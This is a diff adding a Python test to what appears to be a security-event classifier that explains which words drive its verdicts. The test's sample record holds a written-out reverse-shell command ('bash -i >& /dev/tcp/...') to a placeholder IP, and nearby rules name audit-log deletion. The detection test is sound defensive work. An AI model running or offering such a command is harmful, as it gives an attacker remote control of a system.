@@ -46,6 +46,16 @@ def test_a_witness_tells_the_wordings_it_was_taught_and_survives_the_disk(tmp_pa
     assert (tmp_path / witness.FILE).stat().st_size < 800_000
 
 
+def test_a_witness_names_the_words_that_weigh_most_as_they_stand() -> None:
+    taught = witnessing.learn(lessons())
+    text = "name: host7\ncommand: bash -i >& /dev/tcp/198.51.100.7/4444\nnote: git rebase main of /srv/app"
+    bad, harmless = taught.telling(f"x high. | {text}", True), taught.telling(f"x high. | {text}", False)
+    assert "/dev/tcp/198.51.100.7/4444" in bad and not set(bad) & set(harmless)
+    assert harmless and all(word in text for word in [*bad, *harmless])
+    assert "high" not in bad + harmless and "command" not in bad + harmless
+    assert taught.telling(" | password: [password:ab****yz]", True) == []
+
+
 RULES = {
     "Audit log deleted": ("DeleteAuditLog", "ListAuditLogs"),
     "Repository made public": ("repo.visibility_public", "repo.star"),
